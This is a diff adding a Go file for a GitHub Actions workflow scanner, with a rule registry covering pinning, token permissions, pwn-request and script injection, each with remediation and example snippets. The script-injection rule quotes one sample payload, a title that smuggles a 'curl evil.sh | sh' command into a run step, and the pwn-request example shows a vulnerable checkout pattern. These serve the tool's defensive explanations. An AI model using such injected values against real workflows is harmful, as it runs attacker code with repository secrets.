@@ -0,0 +1,480 @@
+package main
+
+import (
+	"fmt"
+	"io"
+	"sort"
+)
+
+// Finding severities, from most to least severe
+const (
+	SeverityError   = "error"
+	SeverityWarning = "warning"
+	SeverityInfo    = "info"
+)
+
+// Rule identifiers for findings
+const (
+	RuleEOLAction               = "eol-action"
+	RuleDefaultWritePermissions = "default-write-permissions"
+	RuleWriteAllPermissions     = "write-all-permissions"
+	RuleForkedAction            = "forked-action"
+	RuleMatrixExplosion         = "matrix-explosion"
+	RuleTagPinnedAction         = "tag-pinned-action"
+	RuleBranchPinnedAction      = "branch-pinned-action"
+	RuleGitHubTokenHandoff      = "github-token-handoff"
+	RuleOutdatedMajorVersion    = "outdated-major-version"
+	RuleOutdatedAction          = "outdated-action"
+	RuleDeniedAction            = "denied-action"
+	RuleActionNotAllowed        = "action-not-allowed"
+	RuleUnpinnedAction          = "unpinned-action"
+	RuleRunnerOSMismatch        = "runner-os-mismatch"
+	RuleRunnerLatestLabel       = "runner-latest-label"
+	RuleMultipleVersions        = "multiple-versions"
+	RuleHardDependency          = "hard-dependency"
+	RuleUnresolvedWorkflowCall  = "unresolved-workflow-call"
+	RuleBranchPinnedWorkflow    = "branch-pinned-workflow"
+	RuleWorkflowCallCycle       = "workflow-call-cycle"
+	RuleWorkflowNestingDepth    = "workflow-nesting-depth"
+	RuleDeprecatedRuntime       = "deprecated-runtime"
+	RuleBlockedByOrgPolicy      = "blocked-by-org-policy"
+	RulePwnRequest              = "pwn-request"
+	RuleUntrustedCheckout       = "untrusted-checkout"
+	RuleScriptInjection         = "script-injection"
+	RuleFrequentSchedule        = "frequent-schedule"
+	RuleUnpinnedDockerAction    = "unpinned-docker-action"
+	RuleArchivedAction          = "archived-action"
+	RuleUnavailableAction       = "unavailable-action"
+	RuleVulnerableAction        = "vulnerable-action"
+)
+
+// Rule describes a finding type and how to fix it
+type Rule struct {
+	ID          string `json:"id"`
+	Name        string `json:"name"`
+	Description string `json:"description"`
+	Severity    string `json:"severity"`
+	Scan        string `json:"scan"` // scan that evaluates the rule
+	Remediation string `json:"remediation"`
+	Example     string `json:"example,omitempty"`     // workflow snippet that triggers the rule
+	FixExample  string `json:"fix_example,omitempty"` // the same snippet after remediation
+}
+
+// ruleRegistry holds the metadata of every rule that can produce findings
+var ruleRegistry = map[string]Rule{
+	RuleEOLAction: {
+		ID:          RuleEOLAction,
+		Name:        "End-of-life action version",
+		Description: "The workflow uses a major version of an action that upstream has declared end-of-life.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan actions --detailed",
+		Remediation: "Upgrade the `uses:` reference to the supported major version listed in the finding, review the action's release notes for breaking input changes, and pin the new version to a commit SHA.",
+		Example:     "steps:\n  - uses: actions/checkout@v2",
+		FixExample:  "steps:\n  - uses: actions/checkout@v4",
+	},
+	RuleDefaultWritePermissions: {
+		ID:          RuleDefaultWritePermissions,
+		Name:        "Job inherits write-all token permissions",
+		Description: "The job declares no permissions and the repository's default workflow permissions grant the GITHUB_TOKEN write access to every scope.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan permissions",
+		Remediation: "Add a top-level `permissions: contents: read` block to the workflow and grant additional scopes per job only where needed; also set the organization/repository default workflow permissions to read-only.",
+		Example:     "jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4",
+		FixExample:  "permissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4",
+	},
+	RuleWriteAllPermissions: {
+		ID:          RuleWriteAllPermissions,
+		Name:        "Job explicitly granted write-all",
+		Description: "The workflow or job sets `permissions: write-all`, giving the GITHUB_TOKEN write access to every scope.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan permissions",
+		Remediation: "Replace `permissions: write-all` with the individual scopes the job needs, e.g. `permissions: { contents: read, pull-requests: write }`.",
+		Example:     "permissions: write-all",
+		FixExample:  "permissions:\n  contents: read\n  pull-requests: write",
+	},
+	RuleForkedAction: {
+		ID:          RuleForkedAction,
+		Name:        "Action used from a fork",
+		Description: "The workflow uses a fork of a well-known action (e.g. somebody/checkout) instead of the canonical publisher. Forks are usually stale copies or bypass the action allowlist.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan actions --detailed",
+		Remediation: "Switch to the canonical action pinned to a commit SHA, or document why the fork is needed and allowlist it explicitly.",
+		Example:     "steps:\n  - uses: somebody/checkout@v4",
+		FixExample:  "steps:\n  - uses: actions/checkout@v4",
+	},
+	RuleMatrixExplosion: {
+		ID:          RuleMatrixExplosion,
+		Name:        "Oversized job matrix",
+		Description: "The job's strategy.matrix, after include and exclude entries, generates more jobs than the --max-matrix-jobs threshold, or more than GitHub's limit of 256 jobs per matrix, which fails the run.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan matrices",
+		Remediation: "Cut dimensions that do not need the full cross product: test the newest versions on every OS and older versions on one, move rare combinations to `include:`, or split the matrix into separate jobs triggered only where needed.",
+		Example:     "strategy:\n  matrix:\n    os: [ubuntu-latest, windows-latest, macos-latest]\n    node: [16, 18, 20, 22]\n    shard: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]",
+		FixExample:  "strategy:\n  matrix:\n    os: [ubuntu-latest]\n    node: [18, 20, 22]\n    shard: [1, 2, 3, 4, 5]\n    include:\n      - os: windows-latest\n        node: 22\n      - os: macos-latest\n        node: 22",
+	},
+	RuleTagPinnedAction: {
+		ID:          RuleTagPinnedAction,
+		Name:        "Action pinned to a tag",
+		Description: "The workflow references an action by tag. Tags can be moved or re-created, so the code that runs can change without any edit to the workflow.",
+		Severity:    SeverityInfo,
+		Scan:        "--scan pinning",
+		Remediation: "Pin the action to the full commit SHA the tag points to and keep the tag as a trailing comment so update tools can still bump it.",
+		Example:     "steps:\n  - uses: actions/checkout@v4",
+		FixExample:  "steps:\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
+	},
+	RuleBranchPinnedAction: {
+		ID:          RuleBranchPinnedAction,
+		Name:        "Action pinned to a branch",
+		Description: "The workflow references an action by branch, so every push to that branch of the action repository changes the code the workflow runs.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan pinning",
+		Remediation: "Pin the action to a full commit SHA of a reviewed release, or at least to a release tag.",
+		Example:     "steps:\n  - uses: someorg/deploy-action@main",
+		FixExample:  "steps:\n  - uses: someorg/deploy-action@0123456789abcdef0123456789abcdef01234567 # v1.4.0",
+	},
+	RuleGitHubTokenHandoff: {
+		ID:          RuleGitHubTokenHandoff,
+		Name:        "GITHUB_TOKEN passed to a third-party action",
+		Description: "A `with:`, `env:` or `secrets:` entry forwards `secrets.GITHUB_TOKEN` or `github.token` to an action or reusable workflow published outside GitHub and the organization. The action can use the token with every permission the job grants, not only for what it was passed for.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan secrets",
+		Remediation: "Drop the input if the action falls back to the job token by default, otherwise restrict the job's `permissions:` to the scopes the action needs, or use a narrowly scoped GitHub App token for it.",
+		Example:     "steps:\n  - uses: someorg/release-action@v2\n    with:\n      token: ${{ secrets.GITHUB_TOKEN }}",
+		FixExample:  "permissions:\n  contents: write # only the scopes the action needs\nsteps:\n  - uses: someorg/release-action@v2\n    with:\n      token: ${{ secrets.GITHUB_TOKEN }}",
+	},
+	RuleOutdatedMajorVersion: {
+		ID:          RuleOutdatedMajorVersion,
+		Name:        "Action behind the latest major version",
+		Description: "The workflow uses an older major version of an action than its latest release. Older majors stop receiving fixes and often run on deprecated runtimes.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan outdated",
+		Remediation: "Review the breaking changes in the release notes and move the reference to the latest major version.",
+		Example:     "steps:\n  - uses: actions/setup-node@v3",
+		FixExample:  "steps:\n  - uses: actions/setup-node@v4",
+	},
+	RuleOutdatedAction: {
+		ID:          RuleOutdatedAction,
+		Name:        "Action behind the latest minor or patch release",
+		Description: "The workflow references a minor or patch release of an action that is older than its latest release.",
+		Severity:    SeverityInfo,
+		Scan:        "--scan outdated",
+		Remediation: "Move the reference to the latest release, or to the floating major tag if the action publishes one.",
+		Example:     "steps:\n  - uses: actions/cache@v4.0.2",
+		FixExample:  "steps:\n  - uses: actions/cache@v4.2.3",
+	},
+	RuleDeniedAction: {
+		ID:          RuleDeniedAction,
+		Name:        "Action denied by policy",
+		Description: "The workflow uses an action, or a version of it, that matches a `deny` rule of the `--policy` file.",
+		Severity:    SeverityError,
+		Scan:        "--policy",
+		Remediation: "Replace the action with an approved alternative or move to a version the policy does not deny.",
+		Example:     "# policy: deny: [{action: \"someorg/*\"}]\nsteps:\n  - uses: someorg/setup-tool@v1",
+		FixExample:  "steps:\n  - uses: actions/setup-node@v4",
+	},
+	RuleActionNotAllowed: {
+		ID:          RuleActionNotAllowed,
+		Name:        "Action not on the allowlist",
+		Description: "The `--policy` file has an `allow` list and the action, or this version of it, matches none of its rules.",
+		Severity:    SeverityError,
+		Scan:        "--policy",
+		Remediation: "Use an allowed action or version, or request that the action is reviewed and added to the allowlist.",
+		Example:     "# policy: allow: [{owner: actions}]\nsteps:\n  - uses: someorg/cache-action@v2",
+		FixExample:  "steps:\n  - uses: actions/cache@v4",
+	},
+	RuleUnpinnedAction: {
+		ID:          RuleUnpinnedAction,
+		Name:        "Action not pinned as the policy requires",
+		Description: "The `--policy` file requires actions to be pinned to a commit SHA (`sha`) or at least a tag (`tag`), and the action is referenced by a tag or branch.",
+		Severity:    SeverityError,
+		Scan:        "--policy",
+		Remediation: "Pin the action to the full commit SHA of the release, keeping the tag as a trailing comment.",
+		Example:     "# policy: require-pin: sha\nsteps:\n  - uses: actions/checkout@v4",
+		FixExample:  "steps:\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
+	},
+	RuleRunnerOSMismatch: {
+		ID:          RuleRunnerOSMismatch,
+		Name:        "OS-specific command on a mismatched runner",
+		Description: "A `run:` step uses a command of one operating system (apt-get, brew, choco, ...) in a job that runs on a different one, for example through a `${{ matrix.os }}` runner, without checking `runner.os` first. The step fails on that runner.",
+		Severity:    SeverityError,
+		Scan:        "--scan runners",
+		Remediation: "Guard the step with an `if: runner.os == '...'` condition, or move it to a job that runs on the matching operating system.",
+		Example:     "runs-on: ${{ matrix.os }}\nstrategy:\n  matrix:\n    os: [ubuntu-latest, windows-latest]\nsteps:\n  - run: sudo apt-get install -y jq",
+		FixExample:  "runs-on: ${{ matrix.os }}\nstrategy:\n  matrix:\n    os: [ubuntu-latest, windows-latest]\nsteps:\n  - if: runner.os == 'Linux'\n    run: sudo apt-get install -y jq\n  - if: runner.os == 'Windows'\n    run: choco install jq",
+	},
+	RuleRunnerLatestLabel: {
+		ID:          RuleRunnerLatestLabel,
+		Name:        "OS-specific command on a -latest runner label",
+		Description: "A `run:` step relies on the package manager or system tools of a `-latest` runner image. GitHub moves these labels to new OS versions, which drops or renames packages and preinstalled tools, so the step can break without any change to the workflow.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan runners",
+		Remediation: "Pin the job to a versioned runner label such as `ubuntu-24.04` and upgrade it deliberately.",
+		Example:     "runs-on: ubuntu-latest\nsteps:\n  - run: sudo apt-get install -y libssl1.1",
+		FixExample:  "runs-on: ubuntu-22.04\nsteps:\n  - run: sudo apt-get install -y libssl1.1",
+	},
+	RuleMultipleVersions: {
+		ID:          RuleMultipleVersions,
+		Name:        "Action used in more than one version",
+		Description: "The organization uses the action in several versions and this workflow is not on the most used one. Workflows on other versions miss the fixes of the common version or depend on behavior it changed.",
+		Severity:    SeverityInfo,
+		Scan:        "--scan actions --detailed",
+		Remediation: "Move the workflow to the version most workflows use, or upgrade all workflows together.",
+		Example:     "steps:\n  - uses: actions/checkout@v3 # most workflows use v4",
+		FixExample:  "steps:\n  - uses: actions/checkout@v4",
+	},
+	RuleHardDependency: {
+		ID:          RuleHardDependency,
+		Name:        "Critical path depends on a github.com-hosted third-party action",
+		Description: "A job that does not continue on error uses a third-party action or reusable workflow fetched from github.com at run time. When github.com, the action repository, or its ref is unavailable, the workflow cannot run.",
+		Severity:    SeverityInfo,
+		Scan:        "--scan dependencies",
+		Remediation: "Mirror the action repository into the organization (a fork or an imported copy kept in sync) or vendor it under .github/actions, and reference the copy.",
+		Example:     "steps:\n  - uses: hashicorp/setup-terraform@v3",
+		FixExample:  "steps:\n  - uses: myorg/setup-terraform@v3 # organization mirror",
+	},
+	RuleUnresolvedWorkflowCall: {
+		ID:          RuleUnresolvedWorkflowCall,
+		Name:        "Reusable workflow call cannot be resolved",
+		Description: "A job calls a workflow that does not exist at the referenced ref, cannot be read, or does not declare the `workflow_call` trigger. GitHub rejects the calling workflow when it runs.",
+		Severity:    SeverityError,
+		Scan:        "--scan reusable",
+		Remediation: "Point `uses:` at an existing workflow file and ref, make the called repository accessible to the caller, and add `on: workflow_call` to the called workflow.",
+		Example:     "jobs:\n  build:\n    uses: myorg/shared/.github/workflows/build.yml@v1 # no workflow_call trigger",
+		FixExample:  "# myorg/shared/.github/workflows/build.yml\non:\n  workflow_call:",
+	},
+	RuleBranchPinnedWorkflow: {
+		ID:          RuleBranchPinnedWorkflow,
+		Name:        "Reusable workflow called by branch",
+		Description: "A job calls a reusable workflow by branch, directly or from inside another called workflow, so every push to that branch changes the jobs that run, with the caller's secrets and permissions.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan reusable",
+		Remediation: "Call the workflow at a full commit SHA of a reviewed version, or at least at a release tag of the shared workflow repository.",
+		Example:     "jobs:\n  build:\n    uses: myorg/shared/.github/workflows/build.yml@main",
+		FixExample:  "jobs:\n  build:\n    uses: myorg/shared/.github/workflows/build.yml@0123456789abcdef0123456789abcdef01234567 # v1.2.0",
+	},
+	RuleWorkflowCallCycle: {
+		ID:          RuleWorkflowCallCycle,
+		Name:        "Reusable workflows call each other in a cycle",
+		Description: "Following the `uses:` of called workflows leads back to a workflow already in the chain. The chain can never end, so every run that reaches the cycle exceeds GitHub's nesting limit and fails.",
+		Severity:    SeverityError,
+		Scan:        "--scan reusable",
+		Remediation: "Break the cycle: move the shared jobs into a workflow that both callers use and that calls neither of them.",
+		Example:     "# myorg/shared/.github/workflows/build.yml\njobs:\n  test:\n    uses: myorg/shared/.github/workflows/test.yml@v1\n# myorg/shared/.github/workflows/test.yml\njobs:\n  build:\n    uses: myorg/shared/.github/workflows/build.yml@v1",
+		FixExample:  "# myorg/shared/.github/workflows/test.yml\njobs:\n  setup:\n    uses: myorg/shared/.github/workflows/setup.yml@v1",
+	},
+	RuleWorkflowNestingDepth: {
+		ID:          RuleWorkflowNestingDepth,
+		Name:        "Reusable workflows nested too deep",
+		Description: "The longest chain of reusable workflow calls starting at the workflow has more levels, the workflow itself included, than `--max-workflow-depth` (warning) or than the 10 levels GitHub connects (error), in which case the workflow fails to start.",
+		Severity:    SeverityError,
+		Scan:        "--scan reusable",
+		Remediation: "Flatten the chain: call the innermost workflows directly from a higher level, or turn intermediate workflows that only forward to another one into composite actions.",
+		Example:     "jobs:\n  release:\n    uses: myorg/shared/.github/workflows/release.yml@v2 # calls 10 more levels of workflows",
+		FixExample:  "jobs:\n  build:\n    uses: myorg/shared/.github/workflows/build.yml@v2\n  publish:\n    needs: build\n    uses: myorg/shared/.github/workflows/publish.yml@v2",
+	},
+	RuleDeprecatedRuntime: {
+		ID:          RuleDeprecatedRuntime,
+		Name:        "Action on a deprecated Node.js runtime",
+		Description: "The `action.yml` of the action declares `runs.using: node12` or `node16`. GitHub is phasing these runtimes out: runners force such actions onto a newer Node.js version, which can break them, and will eventually refuse to run them.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan deprecated-runtimes",
+		Remediation: "Move to a release of the action that declares `node20` or later, usually its latest major version, or replace the action if it is no longer maintained.",
+		Example:     "steps:\n  - uses: actions/setup-node@v2 # runs.using: node12",
+		FixExample:  "steps:\n  - uses: actions/setup-node@v4 # runs.using: node20",
+	},
+	RuleBlockedByOrgPolicy: {
+		ID:          RuleBlockedByOrgPolicy,
+		Name:        "Action blocked by the organization's Actions permissions",
+		Description: "The organization's Actions permissions (Settings → Actions → General) do not allow the action or reusable workflow: it is not owned by the organization and no allowed pattern matches it, GitHub-owned actions are not allowed, only local actions are allowed, or the reference is not pinned to a full commit SHA while SHA pinning is required. Jobs using it fail to start.",
+		Severity:    SeverityError,
+		Scan:        "--scan actions-permissions",
+		Remediation: "Replace the action with an allowed one, or add a pattern such as `owner/repo@ref` or `owner/*` to the allowed actions and reusable workflows before enforcing the setting.",
+		Example:     "# allowed actions: actions/*, docker/login-action@v3\nsteps:\n  - uses: hashicorp/setup-terraform@v3",
+		FixExample:  "# allowed actions: actions/*, docker/login-action@v3, hashicorp/setup-terraform@v3\nsteps:\n  - uses: hashicorp/setup-terraform@v3",
+	},
+	RulePwnRequest: {
+		ID:          RulePwnRequest,
+		Name:        "Privileged workflow runs untrusted pull request code",
+		Description: "A workflow triggered by `pull_request_target` or `workflow_run` runs with the base repository's secrets and a write token, even for pull requests from forks. Checking out the pull request head and then running a script, build or local action from it, or interpolating a field such as the pull request title into a `run:` script, lets anyone opening a pull request execute code with those privileges.",
+		Severity:    SeverityError,
+		Scan:        "--scan pwn-requests",
+		Remediation: "Build and test pull requests in a `pull_request` workflow without secrets and hand results to the privileged workflow as artifacts it treats as data, or restrict the job to same-repository pull requests with `if: github.event.pull_request.head.repo.full_name == github.repository`.",
+		Example:     "on: pull_request_target\njobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm install && npm test",
+		FixExample:  "on: pull_request\njobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm install && npm test",
+	},
+	RuleUntrustedCheckout: {
+		ID:          RuleUntrustedCheckout,
+		Name:        "Privileged workflow checks out untrusted pull request code",
+		Description: "A workflow triggered by `pull_request_target` or `workflow_run` checks out the pull request head or downloads the triggering run's artifacts, but no later step is known to run it. Actions reading the workspace, such as linters or build tools, can still execute its configuration files with the workflow's secrets.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan pwn-requests",
+		Remediation: "Check out the base ref instead, or make sure no later step executes or loads configuration from the checked-out files, and keep `persist-credentials: false` on the checkout.",
+		Example:     "on: pull_request_target\njobs:\n  label:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
+		FixExample:  "on: pull_request_target\njobs:\n  label:\n    steps:\n      - uses: actions/checkout@v4",
+	},
+	RuleScriptInjection: {
+		ID:          RuleScriptInjection,
+		Name:        "Untrusted context interpolated into a script",
+		Description: "A `run:` script or the `script` of `actions/github-script` interpolates a context that whoever opens an issue, pull request, or comment, or pushes a branch, controls, such as `${{ github.event.issue.title }}`. Expressions are substituted before the shell runs, so a title like `\"; curl evil.sh | sh; \"` executes as a command with the job's token and secrets.",
+		Severity:    SeverityError,
+		Scan:        "--scan script-injection",
+		Remediation: "Pass the value through an environment variable and reference it quoted in the script (`\"$TITLE\"`), or `process.env.TITLE` in github-script, so it is never parsed as code.",
+		Example:     "steps:\n  - run: echo \"${{ github.event.issue.title }}\"",
+		FixExample:  "steps:\n  - env:\n      TITLE: ${{ github.event.issue.title }}\n    run: echo \"$TITLE\"",
+	},
+	RuleFrequentSchedule: {
+		ID:          RuleFrequentSchedule,
+		Name:        "Frequent cron schedule",
+		Description: "A `schedule` trigger runs the workflow more often than `--min-schedule-interval` (default 15 minutes). Every run starts all of its jobs, so a schedule such as `*/5 * * * *` alone amounts to close to 9,000 runs a month and burns runner minutes whether or not anything changed.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan triggers",
+		Remediation: "Run less often, restrict the schedule to working hours or weekdays, or trigger the workflow on the event it waits for (`push`, `workflow_run`, `repository_dispatch`) instead of polling.",
+		Example:     "on:\n  schedule:\n    - cron: '*/5 * * * *'",
+		FixExample:  "on:\n  schedule:\n    - cron: '0 6-18 * * 1-5'",
+	},
+	RuleUnpinnedDockerAction: {
+		ID:          RuleUnpinnedDockerAction,
+		Name:        "Docker action not pinned to a digest",
+		Description: "A step runs a container image through `uses: docker://image:tag` or without any tag. Image tags, `latest` above all, can be re-pushed with different content, so the step can run a different image without any edit to the workflow.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan pinning",
+		Remediation: "Pin the image to the digest the tag currently points to, which `docker buildx imagetools inspect image:tag` prints, and keep the tag in a trailing comment.",
+		Example:     "steps:\n  - uses: docker://alpine:3.20",
+		FixExample:  "steps:\n  - uses: docker://alpine@sha256:beefdbd8a1da6d2915566fde36db9db0b524eb737fc57cd1367effd16dc0d06d # 3.20",
+	},
+	RuleArchivedAction: {
+		ID:          RuleArchivedAction,
+		Name:        "Action repository archived",
+		Description: "The repository of the action or reusable workflow is archived. The workflow keeps running it, but the code no longer receives security fixes or updates for runner and runtime changes.",
+		Severity:    SeverityWarning,
+		Scan:        "--scan actions --detailed",
+		Remediation: "Replace the action with a maintained alternative, or vendor a reviewed copy into the organization and maintain it there.",
+		Example:     "steps:\n  - uses: actions/create-release@v1",
+		FixExample:  "steps:\n  - run: gh release create \"$GITHUB_REF_NAME\" --generate-notes\n    env:\n      GH_TOKEN: ${{ github.token }}",
+	},
+	RuleUnavailableAction: {
+		ID:          RuleUnavailableAction,
+		Name:        "Action repository unavailable",
+		Description: "The repository of the action or reusable workflow does not exist, is not visible to the scanning token, or has been disabled. Unless the workflow's token can see it, the step fails when the job reaches it.",
+		Severity:    SeverityError,
+		Scan:        "--scan actions --detailed",
+		Remediation: "Check whether the repository was renamed, made private, or deleted, and point the workflow at its new location or a maintained alternative.",
+		Example:     "steps:\n  - uses: someone/deleted-action@v1",
+		FixExample:  "steps:\n  - uses: someorg/maintained-action@0123456789abcdef0123456789abcdef01234567 # v2.1.0",
+	},
+	RuleVulnerableAction: {
+		ID:          RuleVulnerableAction,
+		Name:        "Action version with a known vulnerability",
+		Description: "A GitHub security advisory covers the referenced version of the action. Findings of critical and high advisories are errors, medium ones warnings, and low ones informational.",
+		Severity:    SeverityError,
+		Scan:        "--scan actions --detailed",
+		Remediation: "Upgrade to the first patched version named by the advisory or later, pinned to its commit SHA. Without a patched version, replace the action.",
+		Example:     "steps:\n  - uses: tj-actions/changed-files@v45",
+		FixExample:  "steps:\n  - uses: tj-actions/changed-files@ed68ef82c095e0d48ec87eccea555d944a631a4c # v46.0.1",
+	},
+}
+
+// sortedRules returns every registered rule ordered by ID
+func sortedRules() []Rule {
+	var rules []Rule
+	for _, rule := range ruleRegistry {
+		rules = append(rules, rule)
+	}
+	sort.Slice(rules, func(i, j int) bool {
+		return rules[i].ID < rules[j].ID
+	})
+	return rules
+}
+
+// lookupRule returns the metadata of a rule, or a placeholder for unknown rule IDs
+func lookupRule(id string) Rule {
+	if rule, ok := ruleRegistry[id]; ok {
+		return rule
+	}
+	return Rule{ID: id, Name: id, Severity: SeverityWarning}
+}
+
+// Finding represents a single issue detected in a workflow
+type Finding struct {
+	RuleID      string `json:"rule_id"`
+	Severity    string `json:"severity"`
+	Repository  string `json:"repository"`
+	Workflow    string `json:"workflow"`
+	Action      string `json:"action,omitempty"`
+	Version     string `json:"version,omitempty"`
+	Message     string `json:"message"`
+	Remediation string `json:"remediation"`
+
+	Authorship     string `json:"authorship,omitempty"`       // bot or human, with --authorship
+	LastModifiedBy string `json:"last_modified_by,omitempty"` // login of the last commit to the workflow, with --authorship
+
+	Metadata map[string]string `json:"metadata,omitempty"` // added by OnFindingEmitted hooks, e.g. the owning team
+	Snippet  *SourceSnippet    `json:"snippet,omitempty"`  // workflow source around the finding, with --snippets
+}
+
+// remediation returns the finding-specific fix, falling back to the rule's generic guidance
+func (f Finding) remediation() string {
+	if f.Remediation != "" {
+		return f.Remediation
+	}
+	return lookupRule(f.RuleID).Remediation
+}
+
+// normalizeFindings fills in rule remediation defaults and orders findings by repository, workflow, rule and action
+func normalizeFindings(findings []Finding) {
+	for i := range findings {
+		findings[i].Remediation = findings[i].remediation()
+	}
+
+	sort.SliceStable(findings, func(i, j int) bool {
+		a, b := findings[i], findings[j]
+		if a.Repository != b.Repository {
+			return a.Repository < b.Repository
+		}
+		if a.Workflow != b.Workflow {
+			return a.Workflow < b.Workflow
+		}
+		if a.RuleID != b.RuleID {
+			return a.RuleID < b.RuleID
+		}
+		if a.Action != b.Action {
+			return a.Action < b.Action
+		}
+		return a.Version < b.Version
+	})
+}
+
+// severityIcon returns the emoji used to display a severity
+func severityIcon(severity string) string {
+	switch severity {
+	case SeverityError:
+		return "❌"
+	case SeverityWarning:
+		return "⚠️ "
+	default:
+		return "ℹ️ "
+	}
+}
+
+// outputFindings writes a human-readable findings section
+func outputFindings(findings []Finding, writer io.Writer) {
+	if len(findings) == 0 {
+		return
+	}
+
+	fmt.Fprintf(writer, "\n🚨 Findings (%d):\n", len(findings))
+	if bot, human := authorshipCounts(findings); bot+human > 0 {
+		fmt.Fprintf(writer, "   Last modified by: 🤖 bots %d · 👤 humans %d\n", bot, human)
+	}
+	for _, finding := range findings {
+		fmt.Fprintf(writer, "   %s [%s] %s → %s: %s\n",
+			severityIcon(finding.Severity), finding.RuleID, finding.Repository, finding.Workflow, finding.Message)
+		if label := authorshipLabel(finding); label != "" {
+			fmt.Fprintf(writer, "      Last modified by %s\n", label)
+		}
+		writeTextSnippet(writer, finding.Snippet, "      ")
+		if remediation := finding.remediation(); remediation != "" {
+			fmt.Fprintf(writer, "      💡 Fix: %s\n", remediation)
+		}
+	}
+}